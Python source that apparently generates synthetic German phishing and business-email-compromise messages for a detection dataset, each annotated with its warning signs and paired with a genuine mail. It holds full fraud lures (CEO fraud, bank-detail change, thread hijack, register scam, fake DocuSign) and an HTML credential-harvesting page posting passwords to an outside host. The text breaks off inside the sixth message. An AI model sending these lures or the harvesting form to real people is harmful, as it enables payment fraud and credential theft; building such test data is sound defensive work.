"""Attack messages, German (01-08)."""
from lib.kit import (message, outlook_html, finalize_html, gmail_html, html_escape, quote_plain, outlook_body,
                     outlook_quote, tb_body, tb_quote)
from lib import systems as S, world as W, ident as I, docs, office
from lib.util import at, plus, rfc_date, rhex, rstr, ruuid, rb64url, ALNUM

LF = W.LIEFERANT


# ---------------------------------------------------------------------------------------------
@message("attack", "01-de-ceo-fraud-vertrauliche-transaktion")
def a01(m):
    r = m.r
    t = at(2026, 11, 5, 16, 47, 12)
    body = ("Hallo Katrin,\n\n"
            "bist du heute noch im Büro? Ich sitze gerade in Rotterdam bei den Gesprächen mit den Eigentümern "
            "von Van Dijk Baggerwerken – es geht jetzt deutlich schneller als gedacht. Wir müssen bis morgen "
            "12 Uhr eine Exklusivitätsvereinbarung mit einer Anzahlung absichern, sonst geht der Deal an die Belgier.\n\n"
            "Das Thema ist absolut vertraulich (Insiderrelevanz, auch gegenüber dem Team und dem Beirat, bis die "
            "Vereinbarung unterschrieben ist). Bitte sprich mit niemandem darüber, auch nicht mit Laura.\n\n"
            "Die Abwicklung läuft über die Kanzlei Verhoeven & Maas in Amsterdam. Herr Dr. Verhoeven meldet sich "
            "gleich per Mail bei dir und schickt dir die Daten des Treuhandkontos. Es geht um eine Anzahlung von "
            "486.500 EUR, bitte als Vorauszahlung Projekt „Nordsee 2027“ buchen.\n\n"
            "Ich bin den ganzen Nachmittag in Verhandlungen und kann nicht telefonieren, bitte nur per Mail "
            "antworten. Kannst du mir kurz bestätigen, dass du das heute noch freigeben kannst?\n\n"
            "Danke dir!\nHenrik\n\nVon meinem iPhone gesendet\n")
    root = m.text(body, "utf-8", "quoted-printable", style="apple", quoted=False)
    ctx = m.ctx(t, ("Henrik Brandt", "henrik.brandt@examplegroup-eu.com"), [W.st("katrin")],
                "Vertraulich – kurze Abstimmung heute", root, zone="DE")
    ctx.msgid = "<%s@examplegroup-eu.com>" % ruuid(r, upper=True)
    res = S.privateemail(ctx, client_ip="102.89.47.131", mua=S.apple_mua(ctx, "23B85"))
    m.describe("CEO fraud (first stage): 'Henrik Brandt' writes from the look-alike domain examplegroup-eu.com to "
               "the CFO about a confidential acquisition in Rotterdam and announces a lawyer who will send escrow "
               "details for a EUR 486,500 down payment.",
               "Look-alike of examplegroup.eu registered for the attack (Namecheap Private Email, SPF/DKIM/DMARC pass "
               "for the fake domain); secrecy, time pressure, 'mail only, cannot phone', bypasses the four-eyes "
               "process; submitted from an MTN Nigeria address. No link or payload — a text-only lure.",
               pair="B03 (genuine urgent CEO payment request via internal Exchange)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "02-de-lieferant-bankverbindung-lookalike")
def a02(m):
    r = m.r
    t = at(2026, 11, 17, 10, 23, 40)
    mule = I.make_iban("DE", "10011001" + "2417783946")
    letter_body = (
        "Sehr geehrte Damen und Herren,\n\n"
        "im Zuge der Neuorganisation unseres Zahlungsverkehrs (Einführung eines zentralen Cash-Poolings) "
        "teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert. Das bisherige Konto "
        "bei der Weser-Elbe Sparkasse wird zum 30.11.2026 aufgelöst; Zahlungen auf dieses Konto werden ab dem "
        "01.12.2026 nicht mehr gutgeschrieben und von der Bank zurückgewiesen.\n\n"
        "Bitte verwenden Sie ab sofort für alle Zahlungen ausschließlich die folgende Bankverbindung:\n\n"
        "Kontoinhaber: Lieferant GmbH\nBank: Commerzbank AG, Filiale Bremerhaven\nIBAN: %s\nBIC: COBADEFFXXX\n\n"
        "Wir bitten Sie, die Änderung in Ihren Stammdaten zu hinterlegen und uns die Umstellung kurz per E-Mail "
        "zu bestätigen. Für Ihr Verständnis und die angenehme Zusammenarbeit bedanken wir uns." % I.iban_fmt(mule))
    pdfb = docs.letter_pdf(
        m, "Lieferant GmbH", ["Lieferant GmbH", "Am Fischereihafen 21", "27572 Bremerhaven", "Tel. +49 471 93 21 40",
                              "www.lieferant-gmbh.de"],
        ["Example Group Wasserbau GmbH", "Kreditorenbuchhaltung", "Reiherdamm 38", "20457 Hamburg"],
        "Bremerhaven, 16.11.2026", "Mitteilung über die Änderung unserer Bankverbindung", letter_body,
        ["Mit freundlichen Grüßen", "", "Lieferant GmbH", "", "Gerd Lang                         Dr. Ulrike Brandes",
         "Geschäftsführer                  Geschäftsführerin"],
        [["Lieferant GmbH", "Am Fischereihafen 21", "27572 Bremerhaven"],
         ["Geschäftsführer: Gerd Lang, Dr. Ulrike Brandes", "Amtsgericht Bremen HRB 31457 BHV", "USt-IdNr. %s" % LF["ust"]],
         ["Bankverbindung:", "Commerzbank AG", "IBAN %s" % I.iban_fmt(mule)]],
        t, 60, creator="Microsoft® Word für Microsoft 365", producer="Microsoft® Word für Microsoft 365",
        logo_sub="Baggertechnik · Verschleißteile · Rohrleitungssysteme",
        stamp=["LIEFERANT GmbH", "Am Fischereihafen 21", "27572 Bremerhaven"])
    text = ("Sehr geehrte Frau Krüger,\n\n"
            "vielen Dank für Ihre Rückmeldung zu den offenen Posten.\n\n"
            "Anbei erhalten Sie unser offizielles Schreiben zur Änderung unserer Bankverbindung. Im Zuge der "
            "Umstellung auf unseren neuen Cash-Pool werden ab sofort alle Zahlungseingänge über das neue Konto "
            "abgewickelt, das bisherige Konto bei der Weser-Elbe Sparkasse wird zum 30.11.2026 geschlossen.\n\n"
            "Bitte hinterlegen Sie die neue Bankverbindung für die offenen Rechnungen 2026-10457 (32.246,62 EUR) "
            "und 2026-10612 (8.911,30 EUR), die am 20.11. fällig werden:\n\n"
            "Kontoinhaber: Lieferant GmbH\nBank: Commerzbank AG\nIBAN: %s\nBIC: COBADEFFXXX\n\n"
            "Bitte bestätigen Sie uns die Umstellung kurz per E-Mail. Für Rückfragen stehe ich Ihnen gern per Mail "
            "zur Verfügung, telefonisch bin ich diese Woche wegen der Jahresinventur leider nur eingeschränkt erreichbar.\n\n"
            "Mit freundlichen Grüßen\n\nPetra Lang\nAuftragsabwicklung / Innendienst\n\nLieferant GmbH\n"
            "Am Fischereihafen 21 · 27572 Bremerhaven\nTel. +49 471 93 21 40-22\n" % I.iban_fmt(mule))
    quote = ("\n\n---- Am Fr, 13 Nov 2026 14:02:11 +0100 schrieb Sabine Krüger <sabine.krueger@example.com> ----\n\n"
             "> Sehr geehrte Frau Lang,\n>\n> anbei unsere Saldenbestätigung zum 31.10.2026. Die Rechnungen 2026-10457 "
             "und\n> 2026-10612 sind zur Zahlung am 20.11. vorgesehen.\n>\n> Mit freundlichen Grüßen\n> Sabine Krüger\n")
    htm = ('<!DOCTYPE html><html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head>'
           '<body><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;">'
           + "".join("<div>%s<br></div>" % (html_escape(l) if l else "") for l in text.split("\n")) +
           '<div class="zmail_extra_hr" style="border-top: 1px solid rgb(204, 204, 204); height: 0px; margin-top: 10px;">'
           '<br></div><div class="zmail_extra"><div>---- Am Fr, 13 Nov 2026 14:02:11 +0100 schrieb Sabine Krüger '
           '&lt;sabine.krueger@example.com&gt; ----<br></div><blockquote style="margin: 0px;"><div>Sehr geehrte Frau '
           'Lang,<br><br>anbei unsere Saldenbestätigung zum 31.10.2026. Die Rechnungen 2026-10457 und 2026-10612 sind '
           'zur Zahlung am 20.11. vorgesehen.<br><br>Mit freundlichen Grüßen<br>Sabine Krüger</div></blockquote></div>'
           '</div><br></body></html>')
    alt = m.multi("alternative", [m.text(text + quote, "UTF-8", "quoted-printable"), m.html(htm, "UTF-8", "quoted-printable")],
                  style="python")
    root = m.multi("mixed", [alt, m.attach(pdfb, "application/pdf", "Lieferant_GmbH_Aenderung_Bankverbindung.pdf")],
                   style="python")
    ctx = m.ctx(t, ("Petra Lang", "p.lang@lieferant-qmbh.de"), [W.st("sabine")],
                "AW: Offene Posten Lieferant GmbH / Kundennr. 10233", root, zone="DE",
                cc=[("Stefan Maier", "s.maier@lieferant-qmbh.de")])
    ctx.in_reply_to = "<%s@EXCH01.corp.example.com>" % rhex(r, 32)
    ctx.references = ctx.in_reply_to
    res = S.zoho(ctx, client_ip="102.88.34.51")
    m.facts(iban=[mule])
    m.phone("+49 471 93 21 40", "+49 471 93 21 40-22")
    m.describe("Supplier bank-detail change: 'Petra Lang' of Lieferant GmbH replies in a (faked) thread about open items "
               "and attaches a signed-looking letter moving all payments (EUR 41,157.92 due) to a new account.",
               "Sender domain lieferant-qmbh.de is a look-alike (g→q) of lieferant-gmbh.de hosted at Zoho; Cc to a "
               "look-alike 'Stefan Maier' as well; letter claims Commerzbank but the IBAN's bank code 100 110 01 "
               "belongs to N26 (money-mule account); asks for e-mail confirmation only and discourages phone calls.",
               pair="B02 (the supplier's genuine bank change, done properly)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "03-de-lieferant-thread-hijack-anzahlung")
def a03(m):
    r = m.r
    t = at(2026, 11, 23, 8, 41, 17)
    mule = I.make_iban("DE", "10070024" + "0633218400")
    net = 41000.00
    gross = round(net * 1.19, 2)
    dp = round(gross * 0.30, 2)
    epc = I.epc_payload("DEUTDEDBBER", "Lieferant GmbH", mule, dp, "AR 2026-10733 Anzahlung 4500012871")
    pdfb, _, _, _ = docs.invoice_pdf(
        m, "de", dict(name="Lieferant GmbH", tag=["Baggertechnik · Verschleißteile · Rohrleitungssysteme"],
                      lines=["Lieferant GmbH", "Am Fischereihafen 21", "27572 Bremerhaven", "Tel. +49 471 93 21 40",
                             "rechnungen@lieferant-gmbh.de", "www.lieferant-gmbh.de"],
                      short=["Lieferant GmbH", "Am Fischereihafen 21", "27572 Bremerhaven"]),
        ["Example Group Wasserbau GmbH", "Einkauf / Herr Lehmann", "Reiherdamm 38", "20457 Hamburg"],
        [("Rechnungsnummer", "AR 2026-10733"), ("Rechnungsdatum", "23.11.2026"), ("Kundennummer", "10233"),
         ("Ihre Bestellung", "4500012871 vom 02.11.2026"), ("Ihr Ansprechpartner", "Stefan Maier")],
        [("Anzahlung 30 % gem. Auftragsbestätigung AB-26-4471\nBaggerpumpen-Laufrad LR-1100, 5-flügelig, Ni-Hard 4, "
          "für TSHD „Elbstrom“ (Auftragswert 48.790,00 EUR brutto)", 1, "psch", round(dp / 1.19, 2))],
        19,
        ["Bitte überweisen Sie die Anzahlung umgehend auf unser Projektkonto:", "Deutsche Bank AG · BIC DEUTDEDBBER",
         "IBAN %s" % I.iban_fmt(mule), "Verwendungszweck: AR 2026-10733"],
        [["Lieferant GmbH", "Am Fischereihafen 21", "27572 Bremerhaven", "www.lieferant-gmbh.de"],
         ["Geschäftsführer:", "Gerd Lang, Dr. Ulrike Brandes", "Amtsgericht Bremen HRB 31457 BHV", "USt-IdNr. %s" % LF["ust"]],
         ["Projektkonto Anzahlungen:", "Deutsche Bank AG", "IBAN %s" % I.iban_fmt(mule), "BIC DEUTDEDBBER"]],
        t, 60, qr_payload=epc, qr_label="Bezahlen mit GiroCode",
        notes=dict(intro="Gemäß Auftragsbestätigung AB-26-4471 berechnen wir Ihnen die vereinbarte Anzahlung:",
                   terms="Zahlbar sofort ohne Abzug. Die Verladung erfolgt nach Zahlungseingang."),
        creator="Microsoft® Excel® für Microsoft 365", producer="Microsoft® Excel® für Microsoft 365",
        title="Anzahlungsrechnung AR 2026-10733")
    older_markus = ("Hallo Herr Maier,\n\nvielen Dank, KW 48 passt uns. Die Anzahlung (30 %) geben wir wie besprochen "
                    "nach Eingang der Anzahlungsrechnung frei.\nBitte denken Sie an das Materialzeugnis 3.1 und die "
                    "Wuchtprotokolle für das Laufrad.\n\nMit freundlichen Grüßen\nMarkus Lehmann\nLeitung Einkauf\n"
                    "Example Group Wasserbau GmbH\nReiherdamm 38, 20457 Hamburg\nTel. +49 40 7344 0600-215")
    older_stefan = ("Sehr geehrter Herr Lehmann,\n\ndas Laufrad LR-1100 ist in der Endbearbeitung, Liefertermin KW 48 "
                    "ist bestätigt. Die AB-26-4471 haben Sie bereits erhalten.\n\nMit freundlichen Grüßen\nStefan Maier")
    text = ("Guten Morgen Herr Lehmann,\n\n"
            "das Laufrad ist fertig, Wuchtprotokoll und Materialzeugnis 3.1 liegen vor und gehen mit der Lieferung raus. "
            "Die Verladung ist für Mittwoch (25.11.) eingeplant.\n\n"
            "Für die Freigabe der Verladung benötigen wir noch die vereinbarte Anzahlung (30 %, 14.637,00 EUR). "
            "Anbei die Anzahlungsrechnung AR 2026-10733.\n\n"
            "Bitte beachten Sie: Anzahlungen laufen derzeit über unser Projektkonto bei der Deutschen Bank, da unser "
            "Hauptkonto im Zuge des Bankwechsels (siehe Schreiben unserer Geschäftsführung vom 05.11.) noch nicht "
            "vollständig umgestellt ist. Die Bankdaten stehen auf der Rechnung.\n\n"
            "Wenn Sie die Zahlung heute noch anweisen und mir kurz den Zahlungsbeleg schicken, kann ich die Verladung "
            "direkt freigeben. Frau Krüger habe ich in Kopie gesetzt.\n\n"
            "Mit freundlichen Grüßen\n\nStefan Maier\nVertrieb / Key Account Baggertechnik\n\nLieferant GmbH\n"
            "Am Fischereihafen 21 · 27572 Bremerhaven\nTel. +49 471 93 21 40-14 · Mobil +49 171 4428 913\n"
            "www.lieferant-gmbh.de\n")
    full = (text + "\n\nAm 2026-11-16 15:12, schrieb Markus Lehmann:\n" + quote_plain(older_markus) +
            "\n>\n> Am 2026-11-16 11:47, schrieb Stefan Maier:\n" + quote_plain(older_stefan, "> > ") + "\n")
    htm = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>'
           '<body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n<p>' +
           "</p>\n<p>".join("<br />\n".join(html_escape(x) for x in para.split("\n")) for para in text.strip().split("\n\n")) +
           '</p>\n<p><br /></p>\n<p>Am 2026-11-16 15:12, schrieb Markus Lehmann:</p>\n<blockquote type="cite" '
           'style="padding: 0 0.4em; border-left: #1010ff 2px solid; margin: 0">\n<p>' +
           "<br />\n".join(html_escape(x) for x in older_markus.split("\n")) +
           '</p>\n<p>Am 2026-11-16 11:47, schrieb Stefan Maier:</p>\n<blockquote type="cite" style="padding: 0 0.4em; '
           'border-left: #1010ff 2px solid; margin: 0">\n<p>' + "<br />\n".join(html_escape(x) for x in older_stefan.split("\n")) +
           '</p>\n</blockquote>\n</blockquote>\n</body></html>\n')
    alt = m.multi("alternative", [m.text(full, "UTF-8", "quoted-printable", flowed=True, delsp=True, quoted=False),
                                  m.html(htm, "UTF-8", "quoted-printable", quoted=False)], style="roundcube")
    root = m.multi("mixed", [alt, m.attach(pdfb, "application/pdf", "AR_2026-10733_Anzahlung.pdf", fstyle="2231")],
                   style="roundcube")
    ctx = m.ctx(t, LF["people"]["maier"][:2], [W.st("markus")],
                "Re: AW: Bestellung 4500012871 – Baggerpumpen-Laufrad LR-1100 / Liefertermin KW 48", root, zone="DE",
                cc=[W.st("sabine")], subj_enc="Q")
    ctx.msgid = "<%s@lieferant-gmbh.de>" % rhex(r, 32)
    ref1 = "<%s@lieferant-gmbh.de>" % ruuid(r)
    ref2 = "<%s@EXCH01.corp.example.com>" % rhex(r, 32)
    ctx.in_reply_to = ref2
    ctx.references = ref1 + "\n " + ref2
    vpn_ip = "185.241.208.112"
    mua = [("MIME-Version", "1.0"), ("Date", ctx.date()), ("From", ctx.from_h()), ("To", ctx.to_h()),
           ("Cc", ctx.cc_h()), ("Subject", ctx.subj()), ("In-Reply-To", ctx.in_reply_to),
           ("References", ctx.references), ("Message-ID", ctx.msgid), ("X-Sender", "s.maier@lieferant-gmbh.de"),
           ("Organization", "Lieferant GmbH"), ("User-Agent", "Roundcube Webmail/1.6.9"), ("__MIME__", None)]
    local = [("Received", "from %s ([%s])\n\tby webmail.lieferant-gmbh.de\n\twith HTTP (HTTP/1.1 POST); %s" % (
        vpn_ip, vpn_ip, ctx.date(t, "DE", True)))]
    res = S.postfix_relay(ctx, "mail.lieferant-gmbh.de", LF["relay"][1],
                          ("webmail.lieferant-gmbh.de", "localhost", "127.0.0.1"), mua, dkim_dom="lieferant-gmbh.de",
                          dkim_sel="mail2024", auth_user="s.maier@lieferant-gmbh.de", tls_sub=False,
                          dmarc=("pass", "quarantine"), local_hops=local)
    m.facts(iban=[mule])
    m.phone("+49 471 93 21 40", "+49 471 93 21 40-14", "+49 171 4428 913", "+49 40 7344 0600-215")
    m.describe("Thread hijack from the supplier's real, compromised mailbox: 'Stefan Maier' replies inside a genuine "
               "order thread about a dredge-pump impeller and sends a 30 % down-payment invoice (EUR 14,637.00) "
               "with a GiroCode to a 'project account'.",
               "Sent through Lieferant's real relay (SPF/DKIM/DMARC pass) but via Roundcube webmail from "
               "185.241.208.112 (the supplier's staff normally use Thunderbird on site); exploits the genuine bank "
               "change letter of 05.11. to justify a third account (Deutsche Bank Berlin, neither the old nor the "
               "announced new account); urgency tied to shipping; asks for payment proof by mail.",
               pair="B01 (genuine invoice with GiroCode), B02 (genuine bank change)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "04-de-register-scam-dhgr-girocode")
def a04(m):
    r = m.r
    t = at(2026, 10, 14, 7, 5, 31)
    iban = I.make_iban("LT", "35000" + "10088341272")
    netto = 1189.45
    brutto = round(netto * 1.19, 2)
    az = "DHGR-2026-148213-HH"
    epc = I.epc_payload("EVIULT2VXXX", "DHGR Register Services UAB", iban, brutto, "%s Eintragung 2026/27" % az)
    body = (
        "Die nachstehenden Daten Ihres Unternehmens wurden zur Eintragung in das Deutsche Handels- und Gewerberegister "
        "(DHGR) – Online-Verzeichnis für Handel, Gewerbe und Industrie – vorbereitet. Bitte prüfen Sie die Angaben, "
        "ergänzen Sie diese gegebenenfalls und bestätigen Sie die Eintragung durch Überweisung der Eintragungsgebühr "
        "bis zum 28.10.2026.\n\n"
        "Firma: Example Group Wasserbau GmbH\nRegisternummer: HRB 148213 (Amtsgericht Hamburg)\n"
        "Anschrift: Reiherdamm 38, 20457 Hamburg\nBranche: Nassbaggerei, Wasserbau, Hafenbau\n"
        "Geschäftsführung: Dr. Henrik Brandt\n\n"
        "Eintragungsgebühr (Laufzeit 36 Monate, jährliche Zahlweise): 1.189,45 EUR zzgl. 19 % USt. = 1.415,45 EUR\n\n"
        "Mit der Zahlung erkennen Sie die Allgemeinen Geschäftsbedingungen der DHGR an. Es handelt sich um ein Angebot "
        "eines privaten Verzeichnisdienstes; eine Eintragung im amtlichen Handelsregister ist hiervon unabhängig. "
        "Die Laufzeit verlängert sich um jeweils 12 Monate, sofern nicht drei Monate vor Ablauf gekündigt wird.")
    pdfb = docs.letter_pdf(
        m, "DHGR", ["Deutsches Handels- und Gewerberegister", "Zentrale Datenerfassung", "Friedrichstraße 95",
                    "10117 Berlin", "Tel. +49 30 2089 6645 0", "www.dhgr-register.de"],
        ["Example Group Wasserbau GmbH", "z. Hd. der Geschäftsführung", "Reiherdamm 38", "20457 Hamburg"],
        "Berlin, 13.10.2026", "Eintragungsantrag / Zahlungsaufforderung – Aktenzeichen %s" % az, body,
        ["DHGR Datenerfassung", "", "Zahlungsempfänger: DHGR Register Services UAB", "IBAN: %s" % I.iban_fmt(iban),
         "BIC: EVIULT2VXXX", "Verwendungszweck: %s" % az],
        [["DHGR – Deutsches Handels- und", "Gewerberegister", "ein Angebot der DHGR Register Services UAB"],
         ["Sitz: Vilnius, Litauen", "Registernr. 306 118 442", "Servicebüro Berlin"],
         ["Fragen zur Eintragung:", "service@dhgr-register.de", "Tel. +49 30 2089 6645 0"]],
        t, 120, creator="Adobe InDesign 19.5 (Windows)", producer="Adobe PDF Library 17.0", color=(120, 20, 30),
        logo_sub="Deutsches Handels- und Gewerberegister", qr_payload=epc,
        qr_caption="Schnell und sicher zahlen: Scannen Sie den GiroCode mit Ihrer Banking-App. Betrag und "
                   "Verwendungszweck werden automatisch übernommen.",
        title="Eintragungsantrag %s" % az)
    text = ("Sehr geehrte Damen und Herren,\n\n"
            "zu Ihrem Unternehmen Example Group Wasserbau GmbH (HRB 148213, Amtsgericht Hamburg) wurde ein "
            "Eintragungsantrag im Deutschen Handels- und Gewerberegister vorbereitet.\n\n"
            "Aktenzeichen: %s\nFrist zur Rückmeldung: 28.10.2026\n\n"
            "Bitte prüfen Sie die im Anhang aufgeführten Unternehmensdaten. Die Eintragung wird mit Eingang der "
            "Eintragungsgebühr wirksam; Sie können dazu bequem den GiroCode im Dokument verwenden. Änderungen können "
            "Sie online vornehmen: https://www.dhgr-register.de/eintrag/%s\n\n"
            "Mit freundlichen Grüßen\nDHGR Datenerfassung\n\n"
            "Deutsches Handels- und Gewerberegister · Friedrichstraße 95 · 10117 Berlin\n"
            "Tel. +49 30 2089 6645 0 · service@dhgr-register.de\n"
            "Ein Angebot der DHGR Register Services UAB, Vilnius. Diese Mitteilung ist keine amtliche Bekanntmachung.\n"
            % (az, az))
    htm = ('<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">'
           '<table width="640" cellpadding="0" cellspacing="0" style="border-top:4px solid #78141e"><tr><td style="padding:18px">'
           '<div style="font-size:20px;font-weight:bold;color:#78141e">DHGR</div>'
           '<div style="font-size:11px;color:#666">Deutsches Handels- und Gewerberegister</div><br>'
           + "".join("<p>%s</p>" % "<br>".join(html_escape(x) for x in para.split("\n")) for para in text.split("\n\n")[:-2])
           + '<p><a href="https://www.dhgr-register.de/eintrag/%s" style="background:#78141e;color:#fff;padding:10px 18px;'
           'text-decoration:none">Eintragungsdaten prüfen</a></p>' % az
           + "".join("<p style=\"font-size:11px;color:#777\">%s</p>" % "<br>".join(html_escape(x) for x in para.split("\n"))
                     for para in text.split("\n\n")[-2:])
           + "</td></tr></table></body></html>")
    alt = m.multi("alternative", [m.text(text, "utf-8", "quoted-printable"), m.html(htm, "utf-8", "quoted-printable")],
                  style="hex")
    root = m.multi("mixed", [alt, m.attach(pdfb, "application/pdf", "Eintragungsantrag_%s.pdf" % az)], style="hex")
    ctx = m.ctx(t, ("DHGR Datenerfassung", "eintragung@dhgr-register.de"), [W.st("birgit")],
                "Eintragungsantrag Example Group Wasserbau GmbH – Aktenzeichen %s – Rückmeldung bis 28.10.2026" % az,
                root, zone="DE")
    ctx.extra = [("List-Unsubscribe", "<mailto:abmelden@dhgr-register.de?subject=unsubscribe>")]
    res = S.mailgun(ctx, "mg.dhgr-register.de")
    m.facts(iban=[iban], url=["https://www.dhgr-register.de/eintrag/%s" % az])
    m.phone("+49 30 2089 6645 0")
    m.describe("Register/directory scam: an 'Eintragungsantrag' of a private 'Deutsches Handels- und Gewerberegister' "
               "with the real HRB number, a payment form and a GiroCode for EUR 1,415.45 to a Lithuanian account.",
               "Official-looking name imitating the Handelsregister, real company data scraped from the register, "
               "deadline and GiroCode to trigger payment; the small print reveals a 3-year paid directory listing "
               "by a Vilnius company; bulk-sent via Mailgun from a freshly registered domain.",
               pair="B08 (genuine Bundesanzeiger/Unternehmensregister publication invoice)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "05-de-voicemail-html-anhang-ses")
def a05(m):
    r = m.r
    t = at(2026, 10, 27, 14, 18, 2)
    victim = W.st("markus")
    action = "https://vm-play.eu-cdn-secure.com/api/v2/auth"
    att = ('<!DOCTYPE html>\n<html lang="de"><head><meta charset="utf-8"><title>Sprachnachricht wiedergeben</title>\n'
           '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
           '<style>body{margin:0;background:#f3f2f1;font-family:"Segoe UI",Arial,sans-serif}.box{width:380px;margin:70px auto;'
           'background:#fff;padding:36px 40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ttl{font-size:24px;font-weight:600;'
           'margin:14px 0}input{width:100%%;padding:6px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:8px 0 18px}'
           'button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right}.wav{background:#e8f1fb;padding:10px;'
           'font-size:13px;margin-bottom:16px}</style></head>\n<body><div class="box">\n'
           '<div style="font-size:20px;color:#737373">&#9632;&#9632; Microsoft</div>\n'
           '<div class="ttl">Anmelden, um die Sprachnachricht abzuspielen</div>\n'
           '<div class="wav">&#9654; VM_491603086117_20261027-1416.wav &nbsp; 00:42</div>\n'
           '<form method="post" action="%s">\n'
           '<input type="email" name="login" value="%s" readonly>\n'
           '<input type="password" name="passwd" placeholder="Kennwort" required>\n'
           '<input type="hidden" name="src" value="vm-teams-de">\n'
           '<button type="submit">Anmelden</button></form>\n'
           '<p style="font-size:12px;clear:both;padding-top:20px">Aus Sicherheitsgründen muss Ihre Sitzung bestätigt werden.</p>\n'
           '</div></body></html>\n' % (action, victim[1]))
    text = ("Microsoft Teams Telefonie\n\nSie haben eine neue Sprachnachricht erhalten.\n\n"
            "Von: +49 40 30 86 11 72\nAn: %s (%s)\nDauer: 00:42\nEmpfangen: Dienstag, 27. Oktober 2026 14:16\n"
            "Priorität: Hoch\n\nDie Sprachnachricht ist als Anhang beigefügt. Öffnen Sie den Anhang im Browser, um die "
            "Nachricht abzuspielen.\n\nDiese Nachricht wurde automatisch vom Voicemail-Dienst gesendet.\n" % (victim[0], victim[1]))
    htm = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
           '<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#242424;margin:0">'
           '<table width="100%%" cellpadding="0" cellspacing="0"><tr><td style="background:#464775;color:#fff;padding:14px 24px;'
           'font-size:16px">Microsoft Teams&nbsp;&nbsp;|&nbsp;&nbsp;Voicemail</td></tr><tr><td style="padding:24px">'
           '<p style="font-size:20px;margin:0 0 12px">Sie haben eine neue Sprachnachricht</p>'
           '<table cellpadding="4" style="font-size:14px"><tr><td style="color:#616161">Von:</td><td><b>+49 40 30 86 11 72</b></td></tr>'
           '<tr><td style="color:#616161">An:</td><td>%s</td></tr><tr><td style="color:#616161">Dauer:</td><td>00:42</td></tr>'
           '<tr><td style="color:#616161">Empfangen:</td><td>27.10.2026 14:16</td></tr></table>'
           '<p>Die Sprachnachricht ist als Anhang beigefügt (<b>VM_491603086117_20261027-1416.htm</b>).</p>'
           '<p style="color:#616161;font-size:12px">Diese Nachricht wurde automatisch gesendet. Bitte antworten Sie nicht '
           'auf diese E-Mail.</p></td></tr></table></body></html>' % html_escape(victim[1]))
    alt = m.multi("alternative", [m.text(text, "UTF-8", "quoted-printable"), m.html(htm, "UTF-8", "quoted-printable")],
                  style="java")
    root = m.multi("mixed", [alt, m.attach(att.encode("utf-8"), "text/html", "VM_491603086117_20261027-1416.htm")],
                   style="java")
    ctx = m.ctx(t, ("Teams Voicemail", "voicemail@teams-voice-notify.com"), [victim],
                "Neue Sprachnachricht von +49 40 30 86 11 72 (00:42) – Priorität: Hoch", root, zone="DE")
    res = S.ses(ctx, "eu-west-1", mail_from_dom="mail.teams-voice-notify.com")
    m.facts(url=[action])
    m.phone("+49 40 30 86 11 72")
    m.describe("Fake Teams voicemail notification with an HTML attachment that renders a Microsoft sign-in page "
               "(e-mail pre-filled) to 'play' a 42-second message.",
               "Sender domain teams-voice-notify.com is not Microsoft (bulk-sent via Amazon SES, all checks pass for "
               "the fake domain); the .htm attachment is a local credential form posting to "
               "vm-play.eu-cdn-secure.com; 'high priority' voicemail pretext. The attachment contains no script.",
               pair="B09 (genuine Microsoft Entra notification)")
    return m.finish(ctx, res)


# ---------------------------------------------------------------------------------------------
@message("attack", "06-de-fake-docusign-sendgrid")
def a06(m):
    r = m.r
    t = at(2026, 11, 12, 11, 2, 48)
    victim = W.st("arne")
    uid = r.randint(40000000, 49999999)
    click = "https://u%d.ct.sendgrid.net/ls/click?upn=u001.%s" % (uid, rb64url(r, 96).replace("-", "2B").replace("_", "2F"))
    env = ruuid(r).upper()
    text = ("Nordwerft Cuxhaven GmbH hat Ihnen ein Dokument zum Prüfen und Unterzeichnen gesendet.\n\n"
            "DOKUMENT PRÜFEN\n%s\n\n"
            "Jan-Hendrik Ahlers\njh.ahlers@nordwerft-cuxhaven.de\n\n"
            "Sehr geehrter Herr Jansen,\nanbei die Auftragsbestätigung zur Dockung TSHD Elbstrom (Leistungsverzeichnis "
            "Rev. 3 mit Zusatzarbeiten Saugrohr und Schleppkopf) mit der Bitte um Unterzeichnung bis Freitag.\n\nMit freundlichen Grüßen\nJ.-H. Ahlers\n\n"
            "Leiten Sie diese E-Mail nicht weiter: Diese E-Mail enthält einen sicheren Link zu Docusign. Bitte geben "
            "Sie diesen Link und den Zugangscode nicht an Dritte weiter.\n\n"
            "Alternative Signaturmethode\nBesuchen Sie Docusign.com, klicken Sie auf 'Dokumente aufrufen' und geben Sie "
            "den Sicherheitscode ein: %s\n\nÜber Docusign\nUnterzeichnen Sie Dokumente elektronisch in nur wenigen "
            "Minuten. Es ist sicher. Egal, ob Sie im Büro, zu Hause oder unterwegs sind.\n" % (click, env.replace("-", "")[:32]))
    htm = ('<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#eaeaea">'
           '<table align="center" width="640" cellpadding="0" cellspacing="0" style="background:#fff;font-family:Helvetica,Arial,sans-serif">'
           '<tr><td style="padding:24px 24px 0"><span style="font-size:22px;font-weight:bold;color:#000">docusign</span></td></tr>'
           '<tr><td style="padding:24px"><table width="100%%" style="background:#1e4ca1;color:#fff"><tr><td align="center" style="padding:28px">'
           '<div style="font-size:16px;line-height:24px">Nordwerft Cuxhaven GmbH hat Ihnen ein Dokument zum Prüfen und Unterzeichnen gesendet.</div>'
           '<br><a href="%s" style="background:#ffc423;color:#000;padding:12px 24px;font-weight:bold;text-decoration:none;font-size:14px">'
           'DOKUMENT PRÜFEN</a></td></tr></table></td></tr>'
           '<tr><td style="padding:0 24px;font-size:15px;color:#000"><b>Jan-Hendrik Ahlers</b><br>'
